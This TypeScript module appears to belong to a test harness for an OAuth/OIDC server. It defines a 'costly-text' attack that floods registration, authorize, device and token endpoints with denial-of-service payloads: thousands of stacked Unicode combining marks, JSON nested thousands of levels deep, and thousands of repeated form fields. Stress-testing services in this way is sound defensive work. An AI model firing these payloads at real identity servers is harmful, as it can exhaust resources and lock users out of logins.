import type { Attack } from '../attack.ts';
import { flood, form, json, type Sent } from '../wire.ts';

/** Unicode normalisation has to sort these, and does so with insertion. */
const marks = '\u0316\u0301'.repeat(7500);
const marksName = `e${marks}`;
const nested = (open: string, close: string, depth: number): string =>
  open.repeat(depth) + close.repeat(depth);
const client = { redirect_uris: ['https://agent.test/callback'] };

const names = JSON.stringify({ ...client, client_name: marksName });
const uris = JSON.stringify({ redirect_uris: [`https://agent.test/${marksName}`] });
const deepList = nested('[', ']', 15_000);
const deepMember = `{"redirect_uris":["https://agent.test/"],"jwks":${nested('{"a":[', ']}', 3500)}}`;
const formOf = (members: Record<string, string>) => new URLSearchParams(members).toString();

/** Every door that takes text, with the text that costs most to look at. */
const sent: readonly Sent[] = [
  ...[names, uris, deepList, deepMember].flatMap((body): Sent[] => [
    { method: 'PUT', path: '/register/x', headers: json, body },
    { method: 'POST', path: '/register', headers: json, body },
    { method: 'POST', path: '/clients/new', headers: json, body },
    { method: 'POST', path: '/request', headers: json, body },
  ]),
  { path: '/device', headers: form, body: formOf({ user_code: marks.slice(0, 10_000) }) },
  { path: '/new', headers: form, body: formOf({ name: marks.slice(0, 10_000) }) },
  { path: '/authorize', headers: form, body: formOf({ client_id: marks.slice(0, 10_000) }) },
  { path: '/token', headers: form, body: formOf({ scope: marks.slice(0, 10_000) }) },
  { path: '/token', headers: form, body: 'a=b&'.repeat(16_000) },
];

export const costlyText: Attack = {
  name: 'costly-text',
  what: 'stacked combining marks and deep JSON, at every door that takes a body',
  listener: 'demo',
  victims: 'login',
  run(target, signal, begun) {
    begun();
    return flood(target, 4, (index) => sent[index % sent.length] as Sent, signal);
  },
};
